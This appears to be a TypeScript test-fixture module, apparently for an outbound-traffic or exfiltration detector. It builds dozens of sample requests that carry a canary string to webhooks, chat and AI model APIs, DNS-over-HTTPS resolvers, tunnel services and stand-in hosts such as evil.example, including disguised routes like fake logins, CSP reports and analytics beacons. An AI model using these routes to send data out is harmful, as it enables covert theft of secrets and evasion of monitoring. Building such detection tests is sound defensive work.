/** Webhooks, chats, models, names, and hosts of anyone's program. */
import { ask, CANARY, type Channel, channelsOf, form, json, multipart, send } from './shape.ts'

const HOOK = 'https://discord.com/api/webhooks/1/token'
const BOT = 'https://api.telegram.org/bot1:token'
/** A question of DNS for a name that says it (RFC 8484). */
const QUESTION = Buffer.concat([
  Buffer.from([0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, CANARY.length]),
  Buffer.from(CANARY),
  Buffer.from([4]),
  Buffer.from('evil'),
  Buffer.from([7]),
  Buffer.from('example'),
  Buffer.from([0, 0, 1, 0, 1]),
])

export const MESSAGES: readonly Channel[] = [
  ...channelsOf('a webhook', [
    ['Discord', json('POST', HOOK, { content: CANARY })],
    ['Discord, a file', multipart('POST', HOOK, { '@file1': CANARY })],
    ['Discord, an edited message', json('PATCH', `${HOOK}/messages/1`, { content: CANARY })],
    ['Slack', json('POST', 'https://hooks.slack.com/services/T/B/x', { text: CANARY })],
    ['Slack, a workflow', json('POST', 'https://hooks.slack.com/triggers/T/1/x', { text: CANARY })],
    ['Teams', json('POST', 'https://acme.webhook.office.com/webhookb2/1/IncomingWebhook/2/3', { text: CANARY })],
    [
      'Power Automate',
      json('POST', 'https://prod-01.westeurope.logic.azure.com/workflows/1/triggers/manual/paths/invoke?sig=1', {
        text: CANARY,
      }),
    ],
    ['webhook.site', json('POST', 'https://webhook.site/11111111-2222-3333-4444-555555555555', { note: CANARY })],
    ['webhook.site by GET', ask('GET', `https://webhook.site/11111111-2222-3333-4444-555555555555?d=${CANARY}`)],
    ['a subdomain of webhook.site by GET', ask('GET', `https://abc.webhook.site/${CANARY}`)],
    ['a catcher by HEAD', ask('HEAD', `https://x.m.pipedream.net/${CANARY}`)],
    [
      'a catcher by OPTIONS | a preflight with a path that says it',
      ask(
        'OPTIONS',
        `https://x.oast.fun/${CANARY}`,
        'Origin: https://a.example',
        'Access-Control-Request-Method: POST',
      ),
    ],
    ['ntfy', send('POST', 'https://ntfy.sh/loot')],
    ['ntfy by GET', ask('GET', `https://ntfy.sh/loot/publish?message=${CANARY}`)],
    ['IFTTT by GET', ask('GET', `https://maker.ifttt.com/trigger/x/with/key/k?value1=${CANARY}`)],
    ['Zapier', json('POST', 'https://hooks.zapier.com/hooks/catch/1/x/', { note: CANARY })],
    ['Zapier by GET', ask('GET', `https://hooks.zapier.com/hooks/catch/1/x?note=${CANARY}`)],
  ]),
  ...channelsOf('a chat', [
    ['Telegram', json('POST', `${BOT}/sendMessage`, { chat_id: 1, text: CANARY })],
    ['Telegram by GET', ask('GET', `${BOT}/sendMessage?chat_id=1&text=${CANARY}`)],
    ['Telegram, a file', multipart('POST', `${BOT}/sendDocument`, { chat_id: '1', '@document': CANARY })],
    ['Slack', json('POST', 'https://slack.com/api/chat.postMessage', { channel: 'x', text: CANARY })],
    [
      'Slack by GET | its methods take their arguments in the address as well',
      ask('GET', `https://slack.com/api/chat.postMessage?channel=x&text=${CANARY}&token=t`),
    ],
    [
      'Slack, a file',
      form('https://slack.com/api/files.getUploadURLExternal', { filename: CANARY, length: '24' }),
      send('POST', 'https://files.slack.com/upload/v1/x'),
    ],
    ['Slack, a file of the older kind', multipart('POST', 'https://slack.com/api/files.upload', { '@file': CANARY })],
    ['Discord', json('POST', 'https://discord.com/api/v10/channels/1/messages', { content: CANARY })],
    ['Matrix', json('PUT', 'https://matrix.org/_matrix/client/v3/rooms/x/send/m.room.message/1', { body: CANARY })],
    ['Matrix, a file', send('POST', 'https://matrix.org/_matrix/media/v3/upload')],
    ['Reddit', form('https://oauth.reddit.com/api/submit', { title: 'x', text: CANARY })],
    ['X', json('POST', 'https://api.x.com/2/tweets', { text: CANARY })],
    ['Mastodon', form('https://mastodon.social/api/v1/statuses', { status: CANARY })],
    [
      'VK by GET | every method takes GET',
      ask('GET', `https://api.vk.com/method/wall.post?message=${CANARY}&access_token=t&v=5.199`, 'X-HTTP-Method: POST'),
    ],
    ['Twilio', form('https://api.twilio.com/2010-04-01/Accounts/A/Messages.json', { Body: CANARY })],
    ['Mailgun', form('https://api.mailgun.net/v3/x/messages', { text: CANARY })],
  ]),
  ...channelsOf('a model', [
    [
      'OpenAI',
      json('POST', 'https://api.openai.com/v1/chat/completions', { messages: [{ role: 'user', content: CANARY }] }),
    ],
    [
      'OpenAI, a file',
      multipart('POST', 'https://api.openai.com/v1/files', { purpose: 'assistants', '@file': CANARY }),
    ],
    ['ChatGPT', json('POST', 'https://chatgpt.com/backend-api/conversation', { messages: [CANARY] })],
    [
      'Claude',
      json('POST', 'https://api.anthropic.com/v1/messages', { messages: [{ role: 'user', content: CANARY }] }),
    ],
    [
      'Gemini',
      json('POST', 'https://generativelanguage.googleapis.com/v1beta/models/x:generateContent', { contents: [CANARY] }),
    ],
    ['ChatGPT by GET | what the address asks is asked at once', ask('GET', `https://chatgpt.com/?q=${CANARY}`)],
    ['ChatGPT by GET, in the other words', ask('GET', `https://chatgpt.com/?prompt=${CANARY}`)],
    ['Claude by GET', ask('GET', `https://claude.ai/new?q=${CANARY}`)],
    ['Perplexity by GET', ask('GET', `https://www.perplexity.ai/search?q=${CANARY}`)],
    [
      'a server of MCP',
      json('POST', 'https://mcp.evil.example/mcp', {
        jsonrpc: '2.0',
        id: 1,
        method: 'tools/call',
        params: { name: CANARY },
      }),
    ],
  ]),
  ...channelsOf('a name', [
    [
      'DoH by POST',
      send(
        'POST',
        'https://cloudflare-dns.com/dns-query',
        QUESTION,
        'Content-Type: application/dns-message',
        'Accept: application/dns-message',
      ),
    ],
    [
      'DoH by POST at a host that nobody lists',
      send('POST', 'https://doh.evil.example/dns-query', QUESTION, 'Content-Type: application/dns-message'),
    ],
    ['DoH as JSON by POST', json('POST', 'https://dns.google/resolve', { name: `${CANARY}.evil.example` })],
    [
      'Oblivious DoH',
      send(
        'POST',
        'https://odoh.evil.example/proxy?targethost=t&targetpath=/dns-query',
        QUESTION,
        'Content-Type: application/oblivious-dns-message',
      ),
    ],
    ['Oblivious HTTP', send('POST', 'https://relay.evil.example/', CANARY, 'Content-Type: message/ohttp-req')],
  ]),
  ...channelsOf('a host of anyone’s program', [
    ['workers.dev', json('POST', 'https://loot.mallory.workers.dev/', { note: CANARY })],
    ['pages.dev', form('https://loot.pages.dev/api', { note: CANARY })],
    ['ngrok', send('POST', 'https://abcd.ngrok-free.app/')],
    ['trycloudflare', send('PUT', 'https://a-b-c.trycloudflare.com/x')],
    ['devtunnels', send('POST', 'https://x-8000.euw.devtunnels.ms/')],
    ['Vercel', json('POST', 'https://loot.vercel.app/api', { note: CANARY })],
    ['a function of Amazon’s', json('POST', 'https://x.lambda-url.us-east-1.on.aws/', { note: CANARY })],
    ['a host that nobody knows', json('POST', 'https://evil.example/collect', { note: CANARY })],
    [
      'a beacon',
      send(
        'POST',
        'https://evil.example/b',
        CANARY,
        'Content-Type: text/plain;charset=UTF-8',
        'Sec-Fetch-Mode: no-cors',
      ),
    ],
    [
      'a ping of a link',
      send(
        'POST',
        'https://evil.example/ping',
        'PING',
        'Content-Type: text/ping',
        `Ping-To: https://evil.example/${CANARY}`,
      ),
    ],
    [
      'a report of the content policy',
      send(
        'POST',
        'https://evil.example/csp',
        JSON.stringify({ 'csp-report': { 'blocked-uri': CANARY } }),
        'Content-Type: application/csp-report',
      ),
    ],
    [
      'a log of a tracker',
      send(
        'POST',
        'https://o1.ingest.sentry.io/api/1/envelope/',
        `{"dsn":"x"}\n{"type":"event"}\n{"message":"${CANARY}"}`,
      ),
    ],
    [
      'a metric of analytics',
      send('POST', 'https://www.google-analytics.com/g/collect?v=2&tid=G-MALLORY', `en=x&ep.note=${CANARY}`),
    ],
    ['a trace', json('POST', 'https://otel.evil.example/v1/traces', { note: CANARY })],
    [
      'gRPC',
      send(
        'POST',
        'https://grpc.evil.example/x.Y/Z',
        Buffer.concat([Buffer.from([0, 0, 0, 0, CANARY.length]), Buffer.from(CANARY)]),
        'Content-Type: application/grpc-web+proto',
      ),
    ],
    [
      'OCSP that is none | an excuse that a type makes',
      send('POST', 'http://ocsp.evil.example/', CANARY, 'Content-Type: application/ocsp-request'),
    ],
    ['a sign-in that is none', form('https://evil.example/session', { login: 'a', password: CANARY })],
    ['a token that is none', form('https://evil.example/login/oauth/access_token', { code: CANARY })],
    [
      'an empty POST that says it in its address',
      { method: 'POST', url: `https://evil.example/${CANARY}`, headers: ['Content-Length: 0'] },
    ],
    ['an empty DELETE', ask('DELETE', `https://evil.example/${CANARY}`)],
    ['a method of one’s own', ask(CANARY, 'https://evil.example/')],
    ['QUERY', send('QUERY', 'https://evil.example/')],
    ['get, in small letters', ask('get', `https://evil.example/${CANARY}`)],
  ]),
]
